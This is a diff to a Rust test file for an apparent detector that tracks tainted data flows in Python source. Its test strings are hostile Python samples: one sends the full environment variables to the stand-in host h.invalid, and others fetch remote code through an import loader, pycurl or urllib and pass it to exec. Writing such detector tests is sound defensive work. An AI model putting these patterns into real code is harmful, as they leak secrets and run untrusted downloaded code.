@@ -154,11 +154,10 @@ fn programs_that_are_looked_for_keep_their_names() {
 
 #[test]
 fn data_takes_its_usual_ways_out() {
-    for source in [
-        "import os, requests\ns = requests.Session()\ns.headers['X'] = repr(dict(os.environ))\ns.get('https://h.invalid')",
-    ] {
-        assert!(carries(source, Deed::Send, Taints::ENVIRONMENT), "{source}");
-    }
+    let source = "import importlib.abc, urllib.request\nclass F(importlib.abc.InspectLoader):\n    def get_source(self, name): return urllib.request.urlopen('https://h.invalid').read().decode()\n";
+    assert!(carries(source, Deed::Execute, Taints::DOWNLOADED));
+    let source = "import os, requests\ns = requests.Session()\ns.headers['X'] = repr(dict(os.environ))\ns.get('https://h.invalid')";
+    assert!(carries(source, Deed::Send, Taints::ENVIRONMENT));
     for source in [
         "import io, pycurl\nb = io.BytesIO()\nc = pycurl.Curl()\nc.setopt(pycurl.WRITEDATA, b)\nc.perform()\nexec(b.getvalue())",
         "import urllib.request\nclass P:\n    def __bytes__(self): return urllib.request.urlopen('https://h.invalid').read()\nexec(bytes(P()))",
